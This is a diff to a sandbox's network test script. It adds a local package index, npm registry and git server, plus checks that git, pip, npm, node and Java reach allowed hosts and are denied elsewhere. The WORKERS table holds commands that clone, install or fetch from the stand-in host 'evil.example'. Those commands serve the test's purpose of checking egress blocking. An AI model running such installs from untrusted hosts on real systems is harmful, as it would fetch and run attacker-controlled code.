@@ -5,8 +5,14 @@
 
 The script stands in a network of its own, where addresses of the public kind are this machine's: servers listen there, and a name
 server of the test's own answers as it is told."""
+import base64
 import contextlib
+import functools
+import glob
+import gzip  # noqa: F401  tarfile would look for it when an ordinary user cannot find it any more
+import hashlib
 import http.server
+import io
 import json
 import os
 import shutil
@@ -15,8 +21,10 @@ import socketserver
 import ssl
 import subprocess
 import sys
+import tarfile
 import threading
 import time
+import zipfile
 
 INSIDE = "TOOLCAGE_TEST_NETWORK"
 if not os.environ.get(INSIDE):
@@ -703,6 +711,99 @@ def programs(s):
         check(answer.out.count('"host": "api.example.com"') == 2, f"{name}: with and without the proxy", answer)
 
 
+def wheel(path):
+    """The least that pip installs."""
+    with zipfile.ZipFile(path, "w") as file:
+        file.writestr("tiny.py", "print('tiny is here')\n")
+        file.writestr("tiny-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n")
+        file.writestr("tiny-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        file.writestr("tiny-1.0.dist-info/RECORD", "")
+
+
+def tarball(path):
+    """The least that npm installs."""
+    with tarfile.open(path, "w:gz") as file:
+        for name, text in (("package.json", '{"name": "tiny", "version": "1.0.0"}'), ("index.js", "console.log('tiny is here')\n")):
+            info = tarfile.TarInfo("package/" + name)
+            info.size = len(text)
+            file.addfile(info, io.BytesIO(text.encode()))
+
+
+def stock(root):
+    """What a package index and a git server over plain HTTP have to say."""
+    for name in ("simple/tiny", "npm", "work"):
+        os.makedirs(f"{root}/{name}")
+    wheel(f"{root}/simple/tiny/tiny-1.0-py3-none-any.whl")
+    with open(f"{root}/simple/tiny/index.html", "w", encoding="ascii") as file:
+        file.write('<a href="tiny-1.0-py3-none-any.whl">tiny-1.0-py3-none-any.whl</a>\n')
+    tarball(f"{root}/npm/tiny.tgz")
+    with open(f"{root}/npm/tiny.tgz", "rb") as file:
+        digest = base64.b64encode(hashlib.sha512(file.read()).digest()).decode()
+    version = {"name": "tiny", "version": "1.0.0", "dist": {"tarball": "http://files.example.com:8088/npm/tiny.tgz", "integrity": "sha512-" + digest}}
+    with open(f"{root}/npm/tiny", "w", encoding="ascii") as file:
+        json.dump({"name": "tiny", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}, file)
+    if shutil.which("git"):
+        with open(f"{root}/work/said", "w", encoding="ascii") as file:
+            file.write("cloned\n")
+        who = ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "safe.directory=*"]
+        for words in (["init", "-q"], ["add", "said"], ["commit", "-qm", "said"], ["clone", "-q", "--bare", ".", "../repo.git"]):
+            subprocess.run(["git", *who, *words], cwd=f"{root}/work", check=True, capture_output=True)
+        subprocess.run(["git", *who, "update-server-info"], cwd=f"{root}/repo.git", check=True)
+
+    class Files(http.server.SimpleHTTPRequestHandler):
+        def log_message(self, *_):
+            pass
+
+    serve(Threaded((API, 8088), functools.partial(Files, directory=root)))
+
+
+JAVA = """
+import java.net.*; import java.net.http.*;
+public class A { public static void main(String[] a) throws Exception {
+  System.out.println(HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(a[0])).build(), HttpResponse.BodyHandlers.ofString()).body());
+} }
+"""
+PLAIN = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u all_proxy -u ALL_PROXY"
+FETCH = "fetch(process.argv[1]).then(r => r.text()).then(console.log, e => { console.log(e.cause && e.cause.code); process.exit(9) })"
+INSTALL = "pip3 install -q --no-cache-dir --disable-pip-version-check --index-url http://files.example.com:8088/simple/ --trusted-host files.example.com --target"
+NPM = "npm install --silent --no-audit --no-fund --cache /tmp/cache --registry http://files.example.com:8088/npm/ --prefix"
+# What it is to say, with the proxy's variables and without, and what it is to fail with on another host.
+WORKERS = {
+    "git": (f"git clone -q http://files.example.com:8088/repo.git /tmp/a && cat /tmp/a/said; {PLAIN} git clone -q http://files.example.com:8088/repo.git /tmp/b && cat /tmp/b/said", "cloned",
+            "git clone -q http://evil.example/repo.git /tmp/c"),
+    "pip3": (f"{INSTALL} /tmp/a tiny && python3 /tmp/a/tiny.py; {PLAIN} {INSTALL} /tmp/b tiny && python3 /tmp/b/tiny.py", "tiny is here",
+             "pip3 install -q --no-cache-dir --retries 0 --disable-pip-version-check --index-url http://evil.example/simple/ --trusted-host evil.example --target /tmp/c tiny"),
+    "npm": (f"{NPM} /tmp/a tiny; node /tmp/a/node_modules/tiny; {PLAIN} {NPM} /tmp/b tiny; node /tmp/b/node_modules/tiny", "tiny is here",
+            "npm install --silent --fetch-retries 0 --cache /tmp/cache --registry http://evil.example/ --prefix /tmp/c tiny"),
+    "node": (f"node -e '{FETCH}' http://api.example.com/; {PLAIN} node -e '{FETCH}' http://api.example.com/", '"host": "api.example.com"', f"node -e '{FETCH}' http://evil.example/"),
+    "java": (f"cat > /tmp/A.java <<'END'\n{JAVA}END\njava -Xmx128m /tmp/A.java http://api.example.com/ && {PLAIN} java -Xmx128m /tmp/A.java http://api.example.com/", '"host": "api.example.com"',
+             f"cat > /tmp/A.java <<'END'\n{JAVA}END\njava -Xmx128m /tmp/A.java http://evil.example/"),
+}
+
+
+def work(s, script):
+    """Debian's Java has its settings beside what a cage shows of /etc."""
+    return s.shell(script, network='["files.example.com:8088", "api.example.com:80"]', readable=glob.glob("/etc/java-*"), writable=(), more='timeout = "60s"',
+                   memory='{ max = "2GiB", by = "any" }')
+
+
+def workers(s):
+    """Programs that people's tools are made of."""
+    s.works("net.allow")
+    stock(f"{network}/www")
+    lacking = []
+    for name, (script, said, other) in WORKERS.items():
+        if not shutil.which(name, path="/usr/bin"):
+            lacking.append(name)
+            continue
+        answer = work(s, script)
+        check(answer.out.count(said) == 2, f"{name}: with the proxy's variables and without", answer)
+        answer = work(s, other)
+        check(answer.status == "failed" and {"evil.example:80", "evil.example"} & target(answer), f"{name}: another host, with its denial", answer)
+    if lacking:
+        raise Skip(f"skipped: {', '.join(lacking)}: no such program is here")
+
+
 def ends(s):
     """The proxy goes with its cage, and the cage's network with the proxy."""
     s.works("net.allow")
@@ -733,4 +834,4 @@ def gone(pids):
     return until(lambda: not any(os.path.exists(f"/proc/{pid}") for pid in pids), 5)
 
 
-run(named_hosts, learned, last_words, everything_else, inside, other_hosts, killed, any_public, patterns, beside, behind, inspected, trusted, secrets, masked, kept_out, contained, programs, ends)
+run(named_hosts, learned, last_words, everything_else, inside, other_hosts, killed, any_public, patterns, beside, behind, inspected, trusted, secrets, masked, kept_out, contained, programs, workers, ends)
